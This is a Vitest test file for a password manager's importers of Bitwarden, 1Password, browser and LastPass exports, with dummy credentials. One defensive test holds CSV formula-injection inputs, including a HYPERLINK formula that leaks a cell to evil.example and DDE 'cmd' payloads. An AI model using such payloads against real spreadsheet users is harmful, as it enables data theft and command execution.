import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { IMPORT_MAX_BYTES, RECORD_FIELD_MAX_CHARS, RECORD_TITLE_MAX_CHARS, RECORDS_MAX_PER_USER } from '../../../protocol/constants';
import { VaultError, type VaultErrorCode } from '../errors';
import type { LoginContent, NoteContent, RecordContent } from '../state';
import { readImportFile, type ImportFormat, type ParsedImport } from './import-formats';

const FIXTURES = new URL('../../../test/fixtures/import/', import.meta.url);
const fixture = (name: string): Uint8Array => new Uint8Array(readFileSync(new URL(name, FIXTURES)));
const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);

/** The items of a file that must read as items of `format`. */
function itemsOf(name: string, format: ImportFormat, bytes = fixture(name)): ParsedImport {
  const file = readImportFile(name, bytes);
  if (file.kind !== 'items') throw new Error(`${name} read as a backup`);
  expect(file.parsed.format).toBe(format);
  return file.parsed;
}

const logins = (parsed: ParsedImport): LoginContent[] => parsed.items.filter((item): item is LoginContent => item.kind === 'login');
const notes = (parsed: ParsedImport): NoteContent[] => parsed.items.filter((item): item is NoteContent => item.kind === 'note');

/** The VaultError `read` throws; fails the test on anything else, or on no throw. */
function failureOf(read: () => unknown): VaultError {
  try {
    read();
  } catch (error) {
    expect(error).toBeInstanceOf(VaultError);
    return error as VaultError;
  }
  throw new Error('expected a VaultError, nothing was thrown');
}

function expectFailure(name: string, bytes: Uint8Array, code: VaultErrorCode, message?: RegExp): VaultError {
  const error = failureOf(() => readImportFile(name, bytes));
  expect(error.code).toBe(code);
  if (message) expect(error.message).toMatch(message);
  return error;
}

describe('Bitwarden unencrypted JSON', () => {
  const parsed = itemsOf('bitwarden.json', 'bitwarden-json');

  it('keeps logins and notes, turns cards, identities and SSH keys into notes, and skips the trash and unknown types', () => {
    expect(logins(parsed)).toHaveLength(2);
    expect(notes(parsed)).toHaveLength(4);
    expect(parsed.converted).toBe(3);
    expect(parsed.skipped).toEqual([
      { row: 7, reason: expect.stringMatching(/trash/) },
      { row: 8, reason: expect.stringMatching(/kind of Bitwarden item/) },
    ]);
  });

  it('maps a login, putting the other websites, TOTP, custom fields, earlier passwords and folder into its notes', () => {
    const mail = logins(parsed)[0]!;
    expect(mail).toMatchObject({ title: 'Example Mail', username: 'ada@example.com', password: 'correct-horse-battery-staple', url: 'https://mail.example.com/login' });
    expect(mail.notes.startsWith('Recovery email is the old one.\n\n')).toBe(true);
    for (const kept of [
      'Other websites: https://accounts.example.com',
      'One-time password (TOTP): otpauth://totp/Example:ada@example.com?secret=JBSWY3DPEHPK3PXP&issuer=Example',
      'Earlier passwords: old-horse-battery',
      'Security question: Name of first pet: Biscuit',
      'Login with: (linked to a login field)',
      'Folder: Work',
    ]) {
      expect(mail.notes).toContain(kept);
    }
  });

  it('titles a nameless login with its website host and says a passkey was left behind', () => {
    const shop = logins(parsed)[1]!;
    expect(shop.title).toBe('shop.example.org');
    expect(shop.notes).toMatch(/^Passkey: .*did not import/);
  });

  it('lists a card’s, an identity’s and an SSH key’s fields in the note body', () => {
    const [wifi, card, identity, sshKey] = notes(parsed);
    expect(wifi).toEqual({ kind: 'note', title: 'Wi-Fi at home', body: 'SSID: fakenet\nKey: not-a-real-key\n\nRouter admin: admin' });
    expect(card!.body).toBe(
      'Kind: Card\nCardholder name: Ada Lovelace\nBrand: Visa\nNumber: 4111111111111111\nExpiry month: 12\nExpiry year: 2030\nSecurity code: 123\n\nOnly for tests.',
    );
    expect(identity!.body).toContain('First name: Ada\nLast name: Lovelace');
    expect(identity!.body).toContain('Passport number: X0000000');
    expect(identity!.body).not.toContain('Middle name');
    expect(sshKey!.body).toContain('Private key:\n-----BEGIN OPENSSH PRIVATE KEY-----\nAAAAfakefakefake\n-----END OPENSSH PRIVATE KEY-----');
    expect(sshKey!.body).toContain('Folder: Work');
  });

  it('refuses an encrypted export, saying how to export one Keyhold can read', () => {
    expectFailure('bitwarden-encrypted.json', fixture('bitwarden-encrypted.json'), 'import_unsupported', /without a file password/);
    // The account-key encrypted variant has items, but encrypted strings in them.
    expectFailure('x.json', bytesOf(JSON.stringify({ encrypted: true, encKeyValidation_DO_NOT_EDIT: '2.a|b|c', items: [{ type: 1, name: '2.a|b|c' }] })), 'import_unsupported');
  });
});

describe('Bitwarden CSV', () => {
  const parsed = itemsOf('bitwarden.csv', 'bitwarden-csv');

  it('maps logins and notes; the second URI, TOTP, fields and folder go into the notes; other types are skipped with their row', () => {
    expect(parsed.items).toHaveLength(3);
    expect(parsed.items[0]).toEqual({
      kind: 'login',
      title: 'Example Mail',
      username: 'ada@example.com',
      password: 'correct-horse-battery-staple',
      url: 'https://mail.example.com/login',
      notes:
        'Recovery email is the old one.\n\nOther websites: https://accounts.example.com\nOne-time password (TOTP): otpauth://totp/Example:ada@example.com?secret=JBSWY3DPEHPK3PXP\n\nSecurity question: Biscuit\n\nFolder: Work',
    });
    expect(parsed.items[1]).toMatchObject({ kind: 'login', title: 'shop.example.org', notes: '' });
    expect(parsed.items[2]).toEqual({ kind: 'note', title: 'Wi-Fi at home', body: 'SSID: fakenet\nKey: not-a-real-key\n\nRouter admin: admin' });
    // Row 5 of the sheet (the quoted note spans two lines of the file but is one row).
    expect(parsed.skipped).toEqual([{ row: 5, reason: expect.stringMatching(/kind of Bitwarden item/) }]);
  });
});

describe('1Password CSV', () => {
  it('reads 1Password 8’s columns: OTPAuth, tags and archived go into notes, a row with only notes is a note', () => {
    const parsed = itemsOf('1password.csv', '1password-csv');
    expect(parsed.items).toEqual([
      {
        kind: 'login',
        title: 'Example Mail',
        username: 'ada@example.com',
        password: 'correct-horse-battery-staple',
        url: 'https://mail.example.com/login',
        notes: 'Recovery email is the old one.\n\nOne-time password (TOTP): otpauth://totp/Example:ada@example.com?secret=JBSWY3DPEHPK3PXP\nTags: work;mail',
      },
      { kind: 'login', title: 'Shop', username: 'ada', password: 'p4ss-for-the-shop', url: 'shop.example.org', notes: 'Archived in 1Password: yes' },
      { kind: 'note', title: 'Wi-Fi at home', body: 'SSID: fakenet\nKey: not-a-real-key' },
    ]);
    expect(parsed.skipped).toEqual([]);
  });

  it('reads the older header (website, notesPlain)', () => {
    const parsed = itemsOf('1password-legacy.csv', '1password-csv');
    expect(parsed.items).toEqual([
      { kind: 'login', title: 'Example Mail', username: 'ada@example.com', password: 'correct-horse-battery-staple', url: 'https://mail.example.com/login', notes: 'Recovery email is the old one.' },
    ]);
  });

  it('reads a byte order mark, CRLF line ends and a quoted cell over several lines, keeping accents', () => {
    const parsed = itemsOf('bom-crlf-multiline.csv', '1password-csv');
    expect(parsed.items).toEqual([{ kind: 'login', title: 'Café ☕', username: 'zoë', password: 'pässwörd', url: 'https://café.example', notes: 'first line\r\nsecond, with comma\r\n"quoted"' }]);
  });
});

describe('browser CSV', () => {
  it('reads Chrome and Edge (quoted commas and quotes in a password; a nameless row titled by its host)', () => {
    const parsed = itemsOf('chrome.csv', 'browser-csv');
    expect(parsed.items).toEqual([
      { kind: 'login', title: 'mail.example.com', username: 'ada@example.com', password: 'correct-horse-battery-staple', url: 'https://mail.example.com/login', notes: '' },
      { kind: 'login', title: 'shop.example.org', username: 'ada', password: 'p4ss,with"quote', url: 'https://shop.example.org/account', notes: 'Bought a lamp' },
      { kind: 'login', title: 'forum.example.net', username: 'ada', password: 'forum-pass', url: 'https://forum.example.net/', notes: '' },
    ]);
  });

  it('reads Firefox: the title is the host, an HTTP realm goes into notes', () => {
    const parsed = itemsOf('firefox.csv', 'browser-csv');
    expect(parsed.items).toEqual([
      { kind: 'login', title: 'mail.example.com', username: 'ada@example.com', password: 'correct-horse-battery-staple', url: 'https://mail.example.com', notes: '' },
      { kind: 'login', title: 'intranet.example.com', username: 'ada', password: 'intranet-pass', url: 'https://intranet.example.com', notes: 'HTTP realm: Staff only' },
    ]);
  });

  it('reads a header whatever its case and order, and a semicolon-separated sheet', () => {
    const parsed = itemsOf('x.csv', 'browser-csv', bytesOf('Password;Username;URL;Name\nsecret;ada;https://a.example;A\n'));
    expect(parsed.items).toEqual([{ kind: 'login', title: 'A', username: 'ada', password: 'secret', url: 'https://a.example', notes: '' }]);
  });

  it('takes the delimiter from the header, so passwords full of semicolons or tabs do not sway it', () => {
    const rows = Array.from({ length: 12 }, (_, i) => `S${i},https://s.example,ada,a;b;c;d;e;f\tg`).join('\n');
    const parsed = itemsOf('x.csv', 'browser-csv', bytesOf(`name,url,username,password\n${rows}\n`));
    expect(parsed.items).toHaveLength(12);
    expect(parsed.items[0]).toMatchObject({ title: 'S0', password: 'a;b;c;d;e;f\tg' });
    const tabbed = itemsOf('x.tsv', 'browser-csv', bytesOf('name\turl\tusername\tpassword\nA\thttps://a.example\tada\tp,w\n'));
    expect(tabbed.items[0]).toMatchObject({ title: 'A', password: 'p,w' });
  });
});

describe('LastPass CSV (its header would pass for Chrome’s)', () => {
  it('keeps its notes and TOTP, reads "http://sn" rows as notes and counts typed notes as converted', () => {
    const parsed = itemsOf('lastpass.csv', 'lastpass-csv');
    expect(parsed.items).toEqual([
      {
        kind: 'login',
        title: 'Example Mail',
        username: 'ada@example.com',
        password: 'correct-horse-battery-staple',
        url: 'https://mail.example.com/login',
        notes: 'Recovery email is the old one.\n\nOne-time password (TOTP): JBSWY3DPEHPK3PXP\n\nFolder: Work',
      },
      { kind: 'note', title: 'Test Visa', body: 'NoteType:Credit Card\nName on Card:Ada Lovelace\nNumber:4111111111111111' },
      { kind: 'note', title: 'Wi-Fi at home', body: 'SSID: fakenet\n\nFolder: Home' },
    ]);
    expect(parsed.converted).toBe(1);
  });
});

describe('hostile and malformed files', () => {
  it('keeps formula-like cells as the text they are (neutralised only on export)', () => {
    const parsed = itemsOf('formula-injection.csv', 'browser-csv');
    expect(parsed.items.map((item) => (item as LoginContent).title)).toEqual(['=HYPERLINK("https://evil.example/?leak="&D2,"Click me")', "@SUM(1+1)*cmd|' /C calc'!A0"]);
    expect(parsed.items[0]).toMatchObject({ password: '=1+2', notes: "+cmd|' /C calc'!A0" });
    expect(parsed.items[1]).toMatchObject({ username: '-2+3', password: '@pass', notes: '\ttabbed' });
  });

  it('names the expected columns for an unknown header, never a cell of the file', () => {
    const error = expectFailure('wrong-columns.csv', fixture('wrong-columns.csv'), 'import_unreadable', /Bitwarden \(folder, favorite, type, name/);
    expect(error.message).toMatch(/1Password \(Title, Url, Username, Password, OTPAuth/);
    expect(error.message).toMatch(/Chrome or Edge \(name, url, username, password, note\)/);
    expect(error.message).toMatch(/Firefox \(url, username, password, httpRealm/);
    for (const cell of ['site', 'secret', 'correct-horse', 'ada@example.com']) expect(error.message).not.toContain(cell);
  });

  it('refuses bytes that are not UTF-8', () => {
    expectFailure('invalid-utf8.csv', fixture('invalid-utf8.csv'), 'import_unreadable', /not UTF-8/);
  });

  it('refuses a quote that is never closed instead of swallowing the rest of the file', () => {
    expectFailure('unclosed-quote.csv', fixture('unclosed-quote.csv'), 'import_unreadable', /quotes do not pair up/);
  });

  it('refuses JSON that is not an export, and JSON that is cut short', () => {
    expectFailure('not-an-export.json', fixture('not-an-export.json'), 'import_unreadable', /not a Bitwarden or Keyhold export/);
    expectFailure('broken.json', fixture('broken.json'), 'import_unreadable', /not valid JSON/);
    expectFailure('list.json', bytesOf('[1, 2, 3]'), 'import_unreadable');
  });

  it('refuses an empty file, an archive and a 1PUX file', () => {
    expectFailure('empty.csv', bytesOf(' \n\n'), 'import_unreadable', /empty/);
    expectFailure('export.1pux', bytesOf('anything'), 'import_unsupported', /CSV/);
    expectFailure('export.zip', Uint8Array.of(0x50, 0x4b, 0x03, 0x04, 0, 0), 'import_unsupported');
  });

  it('refuses a file over the size limit before decoding it', () => {
    // Not UTF-8 either: the size check must come first.
    const huge = new Uint8Array(IMPORT_MAX_BYTES + 1).fill(0xff);
    expectFailure('huge.csv', huge, 'import_too_large', /50 MiB/);
  });

  it('refuses more rows than an account may hold, in CSV and JSON', () => {
    const row = 'a,https://a.example,u,p\n';
    const csv = `name,url,username,password\n${row.repeat(RECORDS_MAX_PER_USER + 1)}`;
    expectFailure('many.csv', bytesOf(csv), 'import_too_large');
    const json = JSON.stringify({ encrypted: false, items: Array.from({ length: RECORDS_MAX_PER_USER + 1 }, () => ({ type: 2, name: 'n' })) });
    expectFailure('many.json', bytesOf(json), 'import_too_large');
    // Exactly the limit is fine.
    expect(itemsOf('limit.csv', 'browser-csv', bytesOf(`name,url,username,password\n${row.repeat(RECORDS_MAX_PER_USER)}`)).items).toHaveLength(RECORDS_MAX_PER_USER);
  });

  it('skips an item over a length limit with its row and the field, never cutting it short', () => {
    const parsed = itemsOf('long-fields.csv', 'browser-csv');
    expect(parsed.items.map((item) => item.title)).toEqual(['Fits']);
    expect(parsed.skipped).toEqual([
      { row: 2, reason: `The notes is longer than ${RECORD_FIELD_MAX_CHARS} characters (with the fields Keyhold keeps in it).` },
      { row: 3, reason: `The title is longer than ${RECORD_TITLE_MAX_CHARS} characters.` },
    ]);
  });

  it('keeps duplicate rows (the preview flags them) and ignores blank rows', () => {
    const parsed = itemsOf('duplicates.csv', 'browser-csv');
    expect(parsed.items.map((item) => item.title)).toEqual(['mail.example.com', 'mail.example.com', 'shop.example.org']);
    expect(parsed.skipped).toEqual([]);
  });

  it('skips a row with more cells than the header (an unquoted comma) instead of guessing', () => {
    const parsed = itemsOf('x.csv', 'browser-csv', bytesOf('name,url,username,password\nA,https://a.example,ada,pass,word\nB,https://b.example,bob,pw,\n'));
    expect(parsed.items.map((item) => item.title)).toEqual(['B']);
    expect(parsed.skipped).toEqual([{ row: 2, reason: expect.stringMatching(/more cells than the header/) }]);
  });

  it('throws nothing but VaultError for mangled versions of every fixture', () => {
    const names = ['bitwarden.json', 'bitwarden.csv', '1password.csv', 'chrome.csv', 'firefox.csv', 'lastpass.csv'];
    for (const name of names) {
      const original = fixture(name);
      for (let cut = 1; cut < original.length; cut += 7) {
        const variants = [original.subarray(0, cut), Uint8Array.from(original, (byte, index) => (index === cut ? 0x22 : byte))];
        for (const bytes of variants) {
          try {
            const file = readImportFile(name, bytes);
            const items: readonly RecordContent[] = file.kind === 'items' ? file.parsed.items : [];
            for (const item of items) expect(['login', 'note']).toContain(item.kind);
          } catch (error) {
            expect(error).toBeInstanceOf(VaultError);
          }
        }
      }
    }
  });
});
